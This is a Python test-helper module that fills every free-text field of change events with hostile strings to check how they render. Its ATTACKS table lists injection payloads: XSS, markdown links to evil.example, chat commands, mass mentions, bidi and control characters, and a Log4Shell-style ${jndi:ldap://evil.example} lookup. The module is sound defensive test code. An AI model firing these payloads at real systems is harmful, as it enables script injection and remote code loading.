"""Events in which every text that others write is an attack on where it is shown."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import msgspec

from change_events.model import ChangeEvent

if TYPE_CHECKING:
    from collections.abc import Callable

# closed vocabularies, times and figures: another word there is no event
_FIXED = {
    "id", "kind", "phase", "outcome", "severity", "action", "started_at", "ended_at", "schema_version", "confidence",
    "relation", "status", "fingerprint", "authored_at", "url", "run_url", "commit_url", "pull_request_url",
}  # fmt: skip

ATTACKS = {
    "script": '<script>alert(1)</script><img src=x onerror="alert(1)"></details>--><svg/onload=alert(1)>',
    "markdown": "![i](https://evil.example/i) [l](https://evil.example) <b>b</b> `c` **s** | t |\n# h\n> q\n- i",
    "fences": "```\n~~~\n`````` ` `` ```text\n/close\n/merge\n  /label ~x",
    "mentions": "@org/team @ann #41 !41 GH-41 org/repo#41 a@evil.example ~label %milestone &1 $2 ^alert#1 :+1:",
    "addresses": "https://evil.example http://evil.example www.evil.example ftp://evil.example",
    "slack": "<!channel> <@U123> <https://evil.example|here> &lt;!here&gt;",
    "bidi": "\u202eelif\u202c \u2066x\u2069 \u200f\u061c\ufeff\u2028\u2029\x1b[31m\x00\x7f\x85",
    "template": "{{ 7 * 7 }} {% raw %} {{ event.id }} ${jndi:ldap://evil.example}",
    "backslashes": "\\@ann \\`@ann\\` \\](https://evil.example) \\<b>",
}
LARGE = "A" * 400_000 + "<b>\n" + "\U0001f600" * 150_000 + "\n" * 50_000


def hostile(event: ChangeEvent, text: str) -> ChangeEvent:
    """``event`` with ``text`` in each field that is free text, and in names of tags."""
    return with_texts(event, lambda _: text)


def with_texts(event: ChangeEvent, changed: Callable[[str], str]) -> ChangeEvent:
    """``event`` with each free text changed."""
    return msgspec.convert(_walk(msgspec.to_builtins(event), changed), ChangeEvent)


def _walk(value: Any, changed: Callable[[str], str], key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _walk(inner, changed, name) for name, inner in value.items()}
    if isinstance(value, list | tuple):
        return [_walk(inner, changed, key) for inner in value]
    return changed(value) if isinstance(value, str) and key not in _FIXED else value
